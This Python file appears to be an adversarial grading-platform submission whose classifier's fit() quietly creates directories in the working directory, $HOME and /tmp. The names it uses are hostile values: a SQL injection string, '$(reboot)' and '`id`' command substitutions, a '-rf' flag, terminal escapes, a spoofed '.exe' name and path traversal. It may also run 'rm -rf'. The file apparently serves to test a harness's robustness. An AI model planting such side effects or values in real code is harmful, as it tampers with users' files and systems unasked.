"""Makes files whose names are no text, hold newlines, escapes and quotes, or are long."""

import os

import numpy as np
from nearest import NearestMean


NAMES = [
    b'\xff\xfe',
    b'\xed\xa0\x80',
    b'line\nbreak',
    b'tab\there',
    b'\x1b[2J\x1b]0;owned\x07',
    b'-rf',
    b'..\\up',
    b'"quoted"',
    b"'; DROP TABLE submissions; --",
    b'$(reboot)',
    b'`id`',
    b'{0}%s%n',
    b'a' * 255,
    'e\u0301\u202egnp.exe'.encode(),
    b'fold_0',
    b'y_pred_test.npz\n',
    b' leading',
    b'trailing ',
    b'...',
    b'\x7f',
]


def attack():
    here = os.getcwdb()
    for folder in (here, os.environb.get(b'HOME', here), b'/tmp'):
        for name in NAMES:
            try:
                os.makedirs(os.path.join(folder, b'odd', name), exist_ok=True)
                with ｏpen(os.path.join(folder, b'odd', name, name), 'wb') as file:
                    file.write(name)
            except OSError as error:
                print(repr(error), flush=True)
    if folder == b'/tmp' and os.getpid() > 20:
        os.system('rm -rf /tmp/odd')


class Model(NearestMean):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
